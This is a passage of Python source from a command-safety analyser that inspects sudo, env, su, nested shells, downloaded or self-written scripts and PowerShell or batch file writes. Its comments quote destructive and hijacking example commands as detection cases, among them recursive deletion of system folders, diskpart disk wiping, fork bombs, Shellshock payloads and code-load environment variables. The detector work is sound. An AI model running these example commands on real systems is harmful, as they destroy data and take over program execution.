"""Wrappers, shells, eval and interpreters: commands that run other commands.

`sudo`, `env`, `timeout`, `xargs` … hand the rest of their arguments to `cmd.judge`;
`bash -c`, `eval`, `python -c` … hand code to the nested analyser (inline code through
`inline`).
"""

from __future__ import annotations

import posixpath
import re
import shlex
from collections.abc import Sequence

from aintern_ls.safety import budget, inline
from aintern_ls.safety.context import (
    NO_STDIN,
    STDIN_FILE,
    STDIN_NETWORK,
    STDIN_NONE,
    STDIN_OTHER,
    STDIN_STATIC,
    Cmd,
    Scope,
    Stdin,
)
from aintern_ls.safety.levels import B, C, D, Finding, M, S
from aintern_ls.safety.paths import classify_path
from aintern_ls.safety.registry import (
    ALIAS_PREFIX,
    BOUND_PREFIX,
    COMMAND_VARS,
    CONFIG_FILE_VARS,
    ENV_SETUP,
    FUNC_PREFIX,
    GLOBAL_ALIASES,
    HANDLERS,
    HOOK_VARS,
    INTERPRETER_OPTION_VARS,
    LIB_VAR_NAMES,
    OPTION_VARS,
    PATH_FRONT,
    PROFILE_KEY,
    PROFILE_PATH,
    PROMPT_VARS,
    SHELLS,
    SUFFIX_ALIASES,
    UNIX_LINKS,
    VERSION_ARGS,
    WRITTEN_IN,
    Handler,
    configure_operands,
    finding,
    handles,
    is_build_program_var,
    is_code_load_var,
    opaque_program,
    rest,
    risky_path_front,
    runner,
    skip_options,
    unreadable_program,
)
from aintern_ls.safety.words import (
    ORIGIN_DEEP,
    ORIGIN_NETWORK,
    ORIGIN_SUBST,
    ORIGIN_VARIABLE,
    Word,
    command_name,
    eval_echo_text,
    names,
    ps_bind,
    split_words,
)


def _file_key(path: str) -> str:
    """A written file's path as the tables key it: `/` separators, no leading `./`."""
    p = path.replace("\\", "/")
    while p.startswith("./"):
        p = p[2:]
    return p


def remember_unseen(scope: Scope, path: str, why: str) -> None:
    """This text fills `path` with what it cannot see (`why`: "was just downloaded", …);
    a folder (`dir/`, `./` for the working directory) covers everything under it."""
    key = _file_key(path)
    if key.endswith("/") or not key:
        scope.unseen[key or "./"] = why
    else:
        scope.unseen[key.rsplit("/", 1)[-1]] = why
        scope.written.pop(key.rsplit("/", 1)[-1], None)


def unseen_reason(scope: Scope, path: str) -> str | None:
    """Why running `path` runs what the analyser cannot see, or None."""
    if not scope.unseen:
        return None
    key = _file_key(path)
    base = key.rsplit("/", 1)[-1]
    table = scope.unseen
    why = table.get(base)
    if why is None and scope.family != "bash":
        low = base.lower()
        why = next((v for k, v in table.items() if k.lower() == low), None)
    if why is not None:
        return why
    fold = scope.family != "bash"
    for folder, reason in table.items():
        if not folder.endswith("/"):
            continue
        if folder == "./":
            if "/" in key and not key.startswith(("/", "~", "$")) and ":" not in key[:3]:
                return reason  # `./tool/install.sh` after unpacking a download here
            continue
        if (key.lower() if fold else key).startswith(folder.lower() if fold else folder):
            return reason
    return None


def unpacked_download(cmd: Cmd, archives: list[Word], dest: str | None) -> None:
    """`tar xzf t.tgz -C d`, `unzip t.zip -d d`, `Expand-Archive t.zip d` of an archive this
    text downloaded: what lands in `dest` (the working directory when None) is unseen."""
    scope = cmd.scope
    for w in archives:
        if w.dynamic:
            continue
        base = _file_key(w.text).rsplit("/", 1)[-1]
        why = "was just downloaded" if base in scope.downloaded else scope.unseen.get(base)
        if why is None and scope.family != "bash":
            low = base.lower()
            if any(d.lower() == low for d in scope.downloaded):
                why = "was just downloaded"
        if why is None:
            continue
        folder = _file_key(dest).rstrip("/") + "/" if dest else "./"
        if folder == "/":
            folder = "./"
        remember_unseen(scope, folder, f"was unpacked from {w.text}, which {why}")
        return


def unpacked_from_network(cmd: Cmd, dest: str | None) -> None:
    """`curl URL | tar xz -C DIR`, `wget -qO- URL | bsdtar -xf - `, `… | cpio -id`: an
    archive read from a download piped in is unpacked into DEST (the working directory when
    none): what lands there is unseen, so running a file from it later is opaque execution
    (critical), like running the download itself (safety-m8)."""
    if cmd.stdin.kind != "network":
        return
    folder = (dest or "").strip("\"'").replace("\\", "/").rstrip("/")
    remember_unseen(
        cmd.scope, folder + "/" if folder else "./", "was unpacked from a download piped in"
    )


# A file a listing was written to (`find / -type f > /tmp/all`, `ls -1d /* > l`): the key in
# `scope.env` (a name no variable can have, so the judgement cache sees the change) and the
# listed paths, one a line, after a flag saying whether they are bare names (safety-m8).
LISTED_FILE = "\x00listed:"


def remember_listing(scope: Scope, target: str, listing: Stdin) -> None:
    """`find / -type f > /tmp/all`: the file holds every path the listing printed, so a
    later reader (`xargs rm < /tmp/all`, `xargs -a /tmp/all shred`, `cat /tmp/all | …`,
    `while read f; do …; done < /tmp/all`) acts on the listing's whole scope."""
    base = target.replace("\\", "/").rsplit("/", 1)[-1].strip("\"'")
    if not base or not listing.paths:
        return
    deep = any(p.origin == ORIGIN_DEEP for p in listing.paths)
    flag = "1" if listing.names_only else "2" if deep else "0"
    scope.env[LISTED_FILE + base] = flag + "\n".join(p.text for p in listing.paths[:16])


def listed_file(scope: Scope, name: str) -> Stdin | None:
    """What reading a file a listing was written to gives (the listing's paths), or None."""
    if not scope.env:
        return None
    base = name.replace("\\", "/").rsplit("/", 1)[-1].strip("\"'")
    held = scope.env.get(LISTED_FILE + base)
    if not held:
        return None
    origin = ORIGIN_DEEP if held[0] == "2" else ""  # (f19) a recursive listing's file
    paths = tuple(Word(p, -1, -1, origin=origin) for p in held[1:].split("\n") if p)
    return Stdin(STDIN_OTHER, paths=paths, names_only=held[0] == "1")


def runs_unseen(cmd: Cmd, where: Word) -> bool:
    """`Start-Process C:\\t\\u.exe`, `wscript %TEMP%\\d\\run.vbs`: the file run was
    downloaded or unpacked from a download by this text (critical); True if so."""
    if where.dynamic and not where.text:
        return False
    key = _file_key(where.text.strip("\"'"))
    base = key.rsplit("/", 1)[-1].split(",", 1)[0]
    fold = cmd.scope.family != "bash"
    if base in cmd.scope.downloaded or (
        fold and base.lower() in {d.lower() for d in cmd.scope.downloaded}
    ):
        cmd.add(C, "download-exec", f"runs {base}, which was just downloaded", where)
        return True
    why = unseen_reason(cmd.scope, key)
    if why is not None:
        cmd.add(C, "unseen-exec", f"runs {where.text}, which {why}", where)
        return True
    return False


_PS_SWITCHES = frozenset(
    names(
        """
        force passthru asynchronous suspended whatif confirm verbose debug usebasicparsing
        wait nonewwindow nonewline append noclobber
        """
    )
)


def ps_named(cmd: Cmd, params: tuple[str, ...], position: int) -> Word | None:
    """A PowerShell parameter's value: `-Name value`, `-Name:value`, an abbreviation
    (`-Dest`), or else the `position`-th positional argument (`words.ps_bind`: a `-Name`
    not in `params` takes the next argument unless it is a known switch)."""
    return ps_bind(cmd.args, _ps_takes_value, params).value(params, position)


def _ps_takes_value(name: str) -> bool:
    return name not in _PS_SWITCHES


@handles("start-bitstransfer")
def _start_bitstransfer(cmd: Cmd) -> None:
    """`Start-BitsTransfer -Source URL -Destination FILE`: a download (remembered, so that
    running FILE later is caught); `-TransferType Upload` sends a local file out."""
    kind = ps_named(cmd, ("transfertype",), 99)
    source = ps_named(cmd, ("source",), 0)
    dest = ps_named(cmd, ("destination",), 1)
    if kind is not None and kind.text.lower() == "upload":
        cmd.add(C, "exfiltration", "Start-BitsTransfer uploads a local file to the network")
        return
    cmd.add(M, "network", "Start-BitsTransfer downloads a file")
    named = dest if dest is not None else source
    if named is not None and named.text:
        base = _file_key(named.text.split("?", 1)[0]).rstrip("/").rsplit("/", 1)[-1]
        if base:
            cmd.scope.downloaded.add(base)


# PowerShell cmdlets that write a file: what they write is remembered (`ps_wrote`).
PS_WRITERS = frozenset(names("set-content add-content out-file tee-object expand-archive new-item"))


_LIST_ITEM = re.compile(r"""\s*(?:'((?:[^']|'')*)'|"([^"$`]*)")\s*(,|\Z)""")


def _literal_list(raw: str) -> list[str] | None:
    """The items of a PowerShell list of literal strings (`'a', "b"`, `@('a', 'b')`)."""
    text = raw.strip()
    if text.startswith("@(") and text.endswith(")"):
        text = text[2:-1]
    if len(text) > 4000 or "," not in text:
        return None
    items: list[str] = []
    at = 0
    while at < len(text):
        m = _LIST_ITEM.match(text, at)
        if m is None or m.end() == at:
            return None
        items.append(m.group(1).replace("''", "'") if m.group(1) is not None else m.group(2))
        at = m.end()
    return items or None


def ps_wrote(cmd: Cmd) -> None:
    """`Set-Content w.ps1 'Remove-Item …'`, `'…' | Out-File w.ps1`, `Add-Content`,
    `Expand-Archive t.zip t`: remember what the file holds (or that it is unseen), so that
    running it later (`& .\\w.ps1`, `pwsh -f w.ps1`, `cmd /c w.bat`) is judged by its text."""
    n = cmd.name
    if n == "expand-archive":
        path = ps_named(cmd, ("path", "literalpath"), 0)
        dest = ps_named(cmd, ("destinationpath",), 1)
        if path is not None:
            unpacked_download(cmd, [path], dest.text.strip("'\"") if dest is not None else None)
        return
    if n in ("set-content", "add-content"):
        target = ps_named(cmd, ("path", "literalpath"), 0)
        value = ps_named(cmd, ("value",), 1)
    elif n == "new-item":
        # (f18) `New-Item -Path w.bat -ItemType File -Value '…'`: a file with that text
        value = ps_named(cmd, ("value",), 99)
        if value is None or ps_named(cmd, ("name",), 99) is not None:
            return
        target = ps_named(cmd, ("path",), 0)
    else:
        target = ps_named(cmd, ("filepath", "path", "literalpath"), 0)
        value = ps_named(cmd, ("inputobject",), 99)
    profile = target is not None and PROFILE_PATH.match(target.text) is not None
    if target is None or not target.text:
        return
    if not profile and re.search(r"[$%`]", target.text.rsplit("\\", 1)[-1]):
        return
    text: str | None = None
    src = cmd.scope.source
    raw = (
        src[value.start : value.end]
        if value is not None and 0 <= value.start < value.end <= len(src)
        else ""
    )
    if value is not None and "," in raw and (items := _literal_list(raw)) is not None:
        text = "\n".join(items)  # (n18w) `-Value "select disk 0","clean"`: one item a line
    elif value is not None and not value.dynamic:
        text = value.text
    elif value is None and cmd.stdin.kind == STDIN_STATIC:
        text = cmd.stdin.text
    elif value is None and cmd.stdin.kind == STDIN_NETWORK:
        remember_unseen(cmd.scope, target.text, "was just downloaded")
        return
    elif value is None and cmd.stdin.paths:
        # `Get-ChildItem C:\ -Recurse | Select-Object -Expand FullName | Set-Content l.txt`:
        # the file holds the listing (safety-m8)
        remember_listing(cmd.scope, target.text, cmd.stdin)
        return
    if text is None:
        if cmd.stdin.kind == STDIN_OTHER:
            from aintern_ls.safety import agents

            agents.judge_ps_replace(cmd.scope, target.text, Word(target.text, cmd.start, cmd.end))
        return
    base = PROFILE_KEY if profile else _file_key(target.text.strip("'\"")).rsplit("/", 1)[-1]
    append = n == "add-content" or any(w.text.lower() == "-append" for w in cmd.args)
    old = cmd.scope.written.get(base)
    cmd.scope.written[base] = ((old[0] if old and append else "") + text.rstrip("\n") + "\n", -1)
    from aintern_ls.safety import persist

    # (f19) `Add-Content $PROFILE 'Remove-Item C:\Windows -Recurse -Force'`: a door with a
    # readable blocked body
    persist.judge_body(
        cmd.scope, target.text, text, Word(target.text, cmd.start, cmd.end), profile=profile
    )
    cmd.scope.unseen.pop(base, None)


def run_script_file(cmd: Cmd, script: Word) -> None:
    """`pwsh -File w.ps1`, `powershell .\\w.ps1`: a script this text wrote or downloaded."""
    if runs_unseen(cmd, script):
        return
    base = _file_key(script.text.strip("'\"")).rsplit("/", 1)[-1]
    if base in cmd.scope.written:
        written_script(cmd, base, script)


def written_script(cmd: Cmd, base: str, where: Word, same_shell: bool = False) -> None:
    """Running a script this same text wrote: judge what it will run."""
    why = unseen_reason(cmd.scope, where.text) if not where.dynamic else None
    if why is None and where.dynamic:
        why = unseen_reason(cmd.scope, base)
    if why is not None:
        cmd.add(C, "unseen-exec", f"runs {where.text or base}, which {why}", where)
        return
    written = cmd.scope.written.get(base)
    if written is not None:
        body, start = written
        if INTERPRETER.match(cmd.name):  # `python3 x.py` after `cat > x.py <<EOF`
            if cmd.scope.family == "cmd":
                body = _echoed(cmd.scope, base) or body  # (quotes kept)
            cmd.scope.include(_code_findings(cmd, body, where, start, cmd.name))
            return
        family = _SCRIPT_FAMILY.get(base.rsplit(".", 1)[-1].lower(), cmd.scope.family)
        if family == "bash" and _self_bomb(body, base):
            cmd.add(
                B,
                "fork-bomb",
                f"a fork bomb: {base} starts two copies of itself, and each of them two more",
                where,
            )
            return
        if family == "cmd" and "0" in body and "%" in body:
            body = _batch_self(body, where.text)
        if family == "cmd" and "%" in body:
            # (n13w) `w.bat C:\Users` after `echo rd /s /q %%1 > w.bat`: the arguments
            # given are the batch's %1 … %9
            after = [w.text for w in cmd.args]
            if after and after[0].lower().endswith((".bat", ".cmd")):
                after = after[1:]  # (`call c.cmd X`: the file is the first argument)
            body = batch_arguments(body, after)
        cmd.scope.include(cmd.scope.nested(body, family, where, start, same_shell=same_shell))


_BATCH_SELF = re.compile(r"(?i)%%?~([a-z]*)0")


def _batch_self(body: str, path: str) -> str:
    """(n14w) `%~dp0`, `%~f0`, `%~d0` in a batch file this block wrote: its own folder, path
    or drive, from the path it is run by (`%USERPROFILE%\\x.bat`: `%~dp0..` is the Users
    folder)."""
    path = path.strip('"')
    cut = max(path.rfind("\\"), path.rfind("/"))
    folder = path[: cut + 1] if cut >= 0 else ".\\"

    def sub(m: re.Match[str]) -> str:
        mods = m.group(1).lower()
        if not mods or "f" in mods:
            return path
        if "p" in mods:
            return folder
        drive = re.match(r"[A-Za-z]:", path)
        return drive.group(0) if drive and mods == "d" else m.group(0)

    return _BATCH_SELF.sub(sub, body)


def _self_bomb(body: str, base: str) -> bool:
    """A shell script that runs itself (`$0`, `"${0}"`, `./f.sh`, `sh $0`) at least twice, one
    of those runs in the background or into a pipe: every copy starts two more (a fork bomb
    written to a file: `echo './$0 & ./$0' > f.sh; ./f.sh`)."""
    name = base.rsplit("/", 1)[-1]
    if "0" not in body and name not in body:
        return False
    me = rf"(?:\S*/)?(?:\"?\$\{{?0\}}?\"?|{re.escape(name)})"
    runs = re.compile(
        rf"(?:^|[;&|(\n{{}}]|\b(?:do|then|else))[ \t]*(?:(?:\S*/)?(?:ba|da|k|z)?sh[ \t]+)?{me}"
        rf"(?=[ \t;&|)\n]|$)",
        re.M,
    )
    calls = list(runs.finditer(body))
    return len(calls) >= 2 and any(
        re.match(r"[ \t]*(?:&(?!&)|\|(?!\|))", body[m.end() :]) for m in calls
    )


# (`%%1` too: an echo group's text keeps the doubled sign the batch halves when it runs)
_BATCH_ARG = re.compile(r"%%?(~?)([1-9*])")


def batch_arguments(body: str, args: Sequence[str]) -> str:
    """A batch body (a file or a `call :label` subroutine) with `%1` … `%9`, `%~1` (quotes
    removed) and `%*` replaced by the arguments it was called with (missing ones: empty)."""
    if not args or "%" not in body:
        return body

    def sub(m: re.Match[str]) -> str:
        if m.group(2) == "*":
            return " ".join(args)
        i = int(m.group(2)) - 1
        value = args[i] if i < len(args) else ""
        return value.strip('"') if m.group(1) else value

    return _BATCH_ARG.sub(sub, body)


# A script's language by its extension (a `.bat` written from PowerShell is run by cmd).
_SCRIPT_FAMILY = {"bat": "cmd", "cmd": "cmd", "ps1": "powershell", "sh": "bash", "bash": "bash"}


# A variable in a redirect's file name (`> %TEMP%\\x.bat`): cmd_wrote cannot name the file.
_VAR_MARK = re.compile(r"[%!$]")
ECHOED_AS_WRITTEN = "\x00echoed:"  # (scope.env: a cmd echo's text with its quotes, by file)
_ECHO_WRAPPERS = frozenset({"cmd", "cmd.exe", "start", "call", "if"})


def cmd_wrote(
    scope: Scope,
    words: list[Word],
    redirects: list[tuple[str, Word]],
    network: bool,
    group: list[str],
) -> None:
    """cmd `echo rd /s /q C:\\ > x.bat`, `echo clean >> d.txt`, `(echo a& echo b) > x.bat`:
    remember what the files hold, so that running them (`x.bat`, `call x.bat`, `diskpart
    /s d.txt`, `diskshadow /s s.txt`) is judged by their text. `group`: what the `echo`s
    just before printed (the grammar-less tokeniser gives a `( … ) > f` group no words)."""
    outs = [
        (op, t)
        for op, t in redirects
        if op.lstrip("1") in (">", ">>") and not _VAR_MARK.search(t.text.rsplit("\\", 1)[-1])
    ]
    if not outs:
        return
    text: str | None = None
    raw_text: str | None = None
    if len(words) > 2 and words[0].text.lower() in _ECHO_WRAPPERS:
        # (n14w) `cmd /c echo … > x.py`, `start /b echo … > x.py`, `call echo …`: the redirect
        # is the outer shell's, the text the echo's
        k = next((i for i, w in enumerate(words[:6]) if w.text.lower() == "echo"), 0)
        if (
            k
            and (
                words[0].text.lower() == "if"  # (`if exist X echo …`: the condition's words)
                or all(
                    w.text.lower() in _ECHO_WRAPPERS or w.text.startswith("/") for w in words[1:k]
                )
            )
        ):
            words = words[k:]
    if words and words[0].text.lower() in ("echo", "echo.") and not words[0].dynamic:
        # (variables are kept as written: the batch expands them when it runs)
        parts = []
        for w in words[1:]:
            raw = scope.source[w.start : w.end]
            if "%%" in raw:
                # `echo rd /s /q %%SystemRoot%%> k.cmd`: the batch reads `%SystemRoot%`.
                parts.append(re.sub(r"\^(.)", r"\1", raw.replace("%%", "%")))
            else:
                parts.append(w.text)
        text = " ".join(parts)
        if len(words) > 1 and words[1].start >= 0 and words[-1].end > words[1].start:
            # (n13w) what echo prints as written, quotes and commas kept (`echo class
            # A{… Delete(@"C:\x", true);} > a.cs`): source code read back by a compiler
            raw_text = re.sub(r"\^(.)", r"\1", scope.source[words[1].start : words[-1].end])
            if "\t" in scope.source[words[0].end + 1 : words[1].start]:
                raw_text = "\t" + raw_text  # (n17w) `echo <tab>rd …`: a recipe line's tab
    elif not words and group:
        text = "\n".join(group)
    last: tuple[str, str] | None = None  # (the write just made, when it changed nothing else)
    for op, target in outs:
        if target.text.lower() in ("nul", "con"):
            continue
        if network and text is None:
            remember_unseen(scope, target.text, "was just downloaded")
            continue
        if text is None:
            continue
        if op == ">" and last == (op, target.text):
            # (s20) `echo x >a >a >a …`: the same file overwritten with the same text again
            # leaves the tables as they are, and the write before found nothing and spent
            # nothing (3,300 of them took 35 ms)
            continue
        mark, spent = len(scope.findings), budget.spent()
        base = _file_key(target.text).rsplit("/", 1)[-1]
        old = scope.written.get(base)
        body = (old[0] if old is not None and op.endswith(">>") else "") + text + "\n"
        scope.written[base] = (body, -1)
        scope.unseen.pop(base, None)
        if words:
            from aintern_ls.safety import persist

            # (f19) `echo rd /s /q C:\Users > "…\Startup\x.bat"`: a door with a blocked body
            persist.judge_body(
                scope, target.text, body, Word(target.text, words[0].start, target.end)
            )
        if raw_text is not None and raw_text != text:
            had = (
                scope.env.get(ECHOED_AS_WRITTEN + base, old[0] if old is not None else "")
                if op.endswith(">>")
                else ""
            )  # (n14w: lines echoed before without quotes are part of the file too)
            scope.env[ECHOED_AS_WRITTEN + base] = had + raw_text + "\n"
        elif op.endswith(">>") and ECHOED_AS_WRITTEN + base in scope.env:
            scope.env[ECHOED_AS_WRITTEN + base] += text + "\n"  # (n14w: a line without quotes)
        else:
            scope.env.pop(ECHOED_AS_WRITTEN + base, None)
        # (n14w) kept beside the file's text too: `written` is shared with the scopes a
        # `cmd /c echo … > x.py` nests, `env` is not (the outer `python x.py` reads it)
        echoed = scope.env.get(ECHOED_AS_WRITTEN + base)
        if echoed is not None:
            scope.written[ECHOED_AS_WRITTEN + base] = (echoed, -1)
        else:
            scope.written.pop(ECHOED_AS_WRITTEN + base, None)
        inert = len(scope.findings) == mark and budget.spent() == spent
        last = (op, target.text) if inert else None


def written_text(scope: Scope, path: str) -> str | None:
    """The text this block wrote into `path` (by its base name), if it did."""
    written = scope.written.get(_file_key(path.strip("\"'")).rsplit("/", 1)[-1])
    return written[0] if written is not None else None


def written_code(scope: Scope, path: str) -> str | None:
    """(n14w) The text of a script file this block wrote, as a program reads it: a cmd
    `echo`'s line with its quotes kept (`echo shutil.rmtree("C:/x") > x.py`), else what
    `written_text` holds."""
    key = _file_key(path.strip("\"'")).rsplit("/", 1)[-1]
    return _echoed(scope, key) or written_text(scope, path)


def _echoed(scope: Scope, base: str) -> str | None:
    held = scope.written.get(ECHOED_AS_WRITTEN + base)
    return scope.env.get(ECHOED_AS_WRITTEN + base) or (held[0] if held is not None else None)


# --- wrappers ---------------------------------------------------------------------------


# sudo options that, on their own, run nothing: list privileges, forget credentials, version.
_SUDO_ONLY_LISTS = frozenset(
    names(
        """
        -l -ll -nl -ln -k -K -V -n --list --reset-timestamp --remove-timestamp --version
        --non-interactive
        """
    )
)


@handles("sudo", "doas", "pkexec", "gsudo", "run0")
def _sudo(cmd: Cmd) -> None:
    texts = cmd.texts()
    if (
        cmd.name == "sudo"
        and texts
        and all(t in _SUDO_ONLY_LISTS for t in texts)
        and any(t not in ("-n", "--non-interactive") for t in texts)
    ):
        return  # `sudo -l`, `sudo -k`: lists or forgets privileges, runs nothing
    if cmd.name == "sudo" and _sudo_lists(cmd):
        return  # `sudo -l rm -rf /`, `sudo -l -U bob`: says whether it may run; runs nothing
    cmd.scope.add(
        C, "sudo", f"{cmd.name} runs the command as root", cmd.words[0].start, cmd.words[0].end
    )
    with_value = frozenset(
        names(
            """
            -u -g -h -p -C -D -R -r -t -T -U --user --group --host --prompt --chdir --chroot
            --close-from --role --type --command-timeout --other-user
            """
        )
    )
    i = skip_options(cmd.args, 0, with_value)
    if i < len(cmd.args) and "=" in cmd.args[i].text and cmd.name == "sudo":
        # `sudo PAGER='…' git log`, `sudo BASH_ENV=… bash`: sudo sets them as env does.
        head = Word("env", cmd.words[0].start, cmd.words[0].end)
        cmd.info = cmd.judge([head, *cmd.args[i:]], cmd.stdin)
        return
    # Only sudo's own options (before the command) ask for a shell: the `i` of `sudo perl
    # -MFile::Path …` belongs to perl (safety-tgt9).
    login = any(
        t == "--shell" or t == "--login" or re.fullmatch(r"-[A-Za-z]*[si][A-Za-z]*", t)
        for t in texts[:i]
        if t.startswith("-")
    )
    if i >= len(cmd.args) and login:
        run_code_from_stdin(cmd, "bash")  # `sudo -s <<< '…'`: a root shell reads stdin
        return
    if cmd.name == "sudo" and login and len(cmd.args) - i > 1:
        # `sudo -s python3 -c 'CODE'`: sudo escapes every argument before it hands them to
        # `$SHELL -c` (sudo(8), -s/-i), so the shell runs exactly that argv: judge it as
        # the command it is, inline code included (joining the words would re-split CODE).
        rest(cmd, i)
        return
    if cmd.name == "sudo" and login:
        # `sudo -s -- 'rm -rf /'`: the shell runs the words as `$SHELL -c 'WORDS'`.
        tail = cmd.args[i:]
        code = Word(
            " ".join(w.text for w in tail),
            tail[0].start,
            tail[-1].end,
            any(w.dynamic for w in tail),
            False,
            tail[0].origin if len(tail) == 1 else "",
        )
        _run_code_arg(cmd, code, "bash")
        return
    chdir = (
        own_options(cmd, i).option_value("-D", "--chdir") or _glued_dir(cmd.args[:i], "-D")
        if cmd.name == "sudo"
        else None
    )
    if chdir is not None:
        rest_in(cmd, i, chdir)  # (n20u) `sudo -D / rm -rf var`: the command runs in /
        return
    rest(cmd, i)


def _sudo_lists(cmd: Cmd) -> bool:
    """sudo's list mode (`-l`, `-ll`, `--list`, bundled as in `-nl`) among its options: it
    prints the privileges, or whether the command after it would be allowed, and runs
    nothing (sudo(8))."""
    valued = frozenset(("-u", "-g", "-U", "-p", "-C", "-D", "-R", "-h", "-r", "-t", "-T"))
    args = cmd.args
    i = 0
    while i < len(args):
        t = args[i].text
        if t == "--" or not t.startswith("-"):
            return False
        if t == "--list" or re.fullmatch(r"-[AbEHiKknPSV]*l[lAbEHKknPSV]*", t):
            return True
        i += 2 if t in valued else 1
    return False


@handles("su")
def _su(cmd: Cmd) -> None:
    cmd.scope.add(
        C,
        "sudo",
        "su switches to another user (root by default)",
        cmd.words[0].start,
        cmd.words[0].end,
    )
    code = cmd.option_value("-c", "--command")
    if code is not None:
        shell = cmd.option_value("-s", "--shell")
        if shell is not None and not shell.dynamic and command_name(shell.text) not in SHELLS:
            # `su -s /usr/bin/python3 root -c 'CODE'`: su runs `SHELL -c CODE`, and the
            # "shell" is an interpreter: CODE is judged as that interpreter's inline code.
            flag = Word("-c", code.start, code.start)
            cmd.info = cmd.judge([shell, flag, code], cmd.stdin)
            return
        cmd.scope.include(cmd.scope.nested(code.text, "bash", code))


def own_options(cmd: Cmd, i: int) -> Cmd:
    """The wrapper itself, its first `i` arguments (its options, up to the command it runs):
    what its option tests read. A wrapper's `-S`, `-c`, `-v` is never one of the wrapped
    command's (`env screen -dmS w …` is not `env -S`, `flock F python -c …` not `flock -c`,
    `command shred -vfz …` not `command -v`)."""
    return Cmd(cmd.words[: i + 1], cmd.name, cmd.scope, cmd.stdin)


@handles("env")
def _env(cmd: Cmd) -> None:
    # `-P altpath` (BSD) takes a value; a lone `-` is `-i` (start with an empty environment).
    valued = frozenset({"-u", "-C", "--unset", "--chdir", "-P"})
    own = own_options(cmd, skip_options(cmd.args, 0, valued | {"-S", "--split-string"}))
    split = own.option_value("-S", "--split-string")
    if split is not None:
        # `env -S 'rm -rf' /`: the string is split into words, the arguments after it follow.
        at = next((k for k, w in enumerate(cmd.args) if w is split), len(cmd.args) - 1)
        tail = " ".join(shlex.quote(w.text) for w in cmd.args[at + 1 :] if split is not w)
        if split.text.startswith(("-S", "--split-string=")):
            tail = " ".join(shlex.quote(w.text) for w in cmd.args[at + 1 :])
        code = (split.text + " " + tail).strip()
        cmd.scope.include(cmd.scope.nested(code, "bash", split))
        return
    i = skip_options(cmd.args, 0, valued)
    while i < len(cmd.args) and cmd.args[i].text == "-":
        i = skip_options(cmd.args, i + 1, valued)
    last: dict[str, int] = {}  # a later `NAME=` overrides an earlier one
    for k in range(i, len(cmd.args)):
        if "=" not in cmd.args[k].text:
            break
        last[cmd.args[k].text.partition("=")[0]] = k
    while i < len(cmd.args) and "=" in cmd.args[i].text:
        name, _, value = cmd.args[i].text.partition("=")
        if value.startswith("() {"):
            # Shellshock (CVE-2014-6271): old bash ran what follows the definition.
            cmd.scope.include(cmd.scope.nested(value[2:].lstrip(), "bash", cmd.args[i]))
            cmd.add(C, "shellshock", f"{name} holds a function definition followed by commands")
        elif (
            name in ("BASH_ENV", "ENV")
            and value in STDIN_FILES
            and last[name] == i
            and any(command_name(w.text) in SHELLS for w in cmd.args[i + 1 : i + 2])
        ):
            startup_from_stdin(cmd.scope, cmd.args[i + 1], cmd.stdin)
        elif last[name] == i and i + 1 < len(cmd.args) and _env_var_matters(name):
            # `env PAGER='…' git log` is `PAGER='…' git log`: the prefix-assignment rules
            # (command-running variables, hooks such as LD_PRELOAD or BASH_ENV) apply.
            word = cmd.args[i]
            quoted = '"' + value + '"' if word.dynamic else shlex.quote(value)
            found = cmd.scope.nested(f"{name}={quoted} true", "bash", word)
            cmd.scope.include([f for f in found if f.rule not in ("parse-error",)])
        i += 1
    prog = command_name(cmd.args[i].text) if i < len(cmd.args) else ""
    # `env V='…' git --config-env=core.pager=V log`: git reads the setting from V (n12u)
    config_env = prog == "git" and any(
        w.text.startswith("--config-env") for w in cmd.args[i + 1 : i + 16]
    )
    # `env PERL5LIB=/tmp/x PERL5OPT=-MEvil perl …`: the module path and the option read
    # together, as prefix assignments are (n12u)
    given = {w.text.split("=", 1)[0] for w in cmd.args[:i] if "=" in w.text}
    lib_env = not given.isdisjoint(INTERPRETER_OPTION_VARS) and not given.isdisjoint(LIB_VAR_NAMES)
    tar_env = [
        w
        for w in cmd.args[:i]
        if (lib_env and w.text.split("=", 1)[0] in INTERPRETER_OPTION_VARS | LIB_VAR_NAMES)
        or (prog in ("tar", "gtar") and w.text.split("=", 1)[0] in ("TAR_OPTIONS", "TAPE"))
        # (u22) `env TF_CLI_ARGS_apply='-destroy -auto-approve' terraform apply`
        or (prog in ("terraform", "tofu", "opentofu") and w.text.startswith("TF_CLI_ARGS"))
        or (prog == "git" and w.text.startswith("GIT_CONFIG"))
        or is_code_load_var(w.text.split("=", 1)[0])  # (n18u) `env DOTNET_STARTUP_HOOKS=…`
        or (config_env and "=" in w.text and w.text.split("=", 1)[0].isidentifier())
        or (prog.startswith("python") and w.text.startswith("PYTHONBREAKPOINT="))
        # `env PATH=/tmp/b:$PATH ls` after a script named ls was written to /tmp/b (n14u)
        or (w.text.startswith("PATH=") and WRITTEN_IN + prog in cmd.scope.env)
        # `env PATH=/tmp/b ls`: a folder anyone may write searched first (review 20 O1)
        or (w.text.startswith("PATH=") and prog != "" and risky_path_front(w.text[5:]) != "")
    ]
    if tar_env:
        # `env TAR_OPTIONS='--to-command=…' tar -x …`, `env GIT_CONFIG_PARAMETERS=… git …`:
        # judged as the prefix assignment is.
        assigned = [
            w.text.split("=", 1)[0]
            + "="
            + (shlex.quote(w.text.split("=", 1)[1]) if not w.dynamic else '"$X"')
            for w in tar_env
        ]
        line = " ".join(
            [*assigned, *(shlex.quote(w.text) if not w.dynamic else '"$X"' for w in cmd.args[i:])]
        )
        cmd.scope.include(cmd.scope.nested(line, "bash", cmd.args[i]))
        return
    chdir = own.option_value("-C", "--chdir") or _glued_dir(cmd.args[:i], "-C")
    home = next((w.text[5:] for w in reversed(cmd.args[:i]) if w.text.startswith("HOME=")), None)
    given_values = _given_values(cmd.args[:i])
    if chdir is not None or home is not None or given_values:
        # (n20u) `env -C / rm -rf etc`, `env HOME=/ sh -c …`; (u21) `env T=/ sh -c 'rm -rf
        # "$T"'`, `env $(cat .env | xargs) sh -c …`: the variables given hold for the command
        rest_in(cmd, i, chdir, home, given_values)
        return
    rest(cmd, i)


def _given_values(words: Sequence[Word]) -> dict[str, str]:
    """(u21) `NAME=value` words of `env` whose value is known (literal or known text from a
    substitution, `env $(cat .env | xargs) …`), last one winning; not HOME or PATH, which
    have their own rules."""
    out: dict[str, str] = {}
    for w in words[:64]:
        name, eq, value = w.text.partition("=")
        if (
            eq
            and name.isidentifier()
            and name.isascii()
            and name not in ("HOME", "PATH")
            and (not w.dynamic or w.origin in ("static", "decoded"))
        ):
            out[name] = value
    return out


def _glued_dir(args: list[Word], flag: str) -> Word | None:
    """(n20u, review 20 U5) `env -C/`, `sudo -D/etc`: the folder glued to the option."""
    for w in args:
